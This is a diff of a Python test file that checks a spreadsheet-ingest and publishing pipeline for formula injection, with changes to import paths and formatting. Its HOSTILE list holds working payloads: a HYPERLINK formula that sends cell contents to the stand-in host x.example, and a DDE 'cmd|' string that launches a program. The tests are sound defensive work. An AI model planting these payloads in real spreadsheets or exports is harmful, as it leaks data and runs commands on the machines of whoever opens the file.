@@ -4,8 +4,8 @@ from __future__ import annotations
 
 from helpers import edit, set_figure, set_info, sheet
 
-from cchc.ingest import ingest_files
-from cchc.warehouse import prepare
+from cchc.loading.ingest import ingest_files
+from cchc.warehouse.engine import prepare
 
 HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
 
@@ -36,18 +36,23 @@ def test_formula_text_from_a_unit_is_neutralised_in_its_feedback(samples, ref, t
     assert out.outcome == "rejected" and out.feedback
     cells = _cells(out.feedback)
     shown = " ".join(str(c.value) for c in cells)
-    assert all(h in shown for h in (HOSTILE[0].upper(), "cmd|", "@SUM(A1:A9)")), shown  # shown to the unit as text (codes upper-cased)
+    assert all(h in shown for h in (HOSTILE[0].upper(), "cmd|", "@SUM(A1:A9)")), (
+        shown
+    )  # shown to the unit as text (codes upper-cased)
     assert [c.coordinate for c in cells if c.data_type == "f"] == []
     assert [c.value for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@"] == []
 
 
 def test_published_figures_hold_no_unit_text_formulas(samples, ref, tmp_path):
-    from cchc.consolidate import consolidate_period
-    from cchc.publish import figures_csv, publish_period
+    from cchc.figures.consolidate import consolidate_period
+    from cchc.outputs.publish import figures_csv, publish_period
 
     engine = prepare(f"sqlite:///{tmp_path / 'w.db'}", ref)
-    sneaky = edit(samples / "h1" / "SCT_2024-H1.xlsx", tmp_path / "in" / "SCT_2024-H1.xlsx",
-                  lambda wb: text(wb, "Thông tin chung", set_info(wb, "Người lập", HOSTILE[0])))
+    sneaky = edit(
+        samples / "h1" / "SCT_2024-H1.xlsx",
+        tmp_path / "in" / "SCT_2024-H1.xlsx",
+        lambda wb: text(wb, "Thông tin chung", set_info(wb, "Người lập", HOSTILE[0])),
+    )
     assert ingest_files(engine, ref, [sneaky])[0].outcome == "accepted"
     result = consolidate_period(engine, ref, "2024-H1")
     paths = publish_period(tmp_path / "out", result, ref)
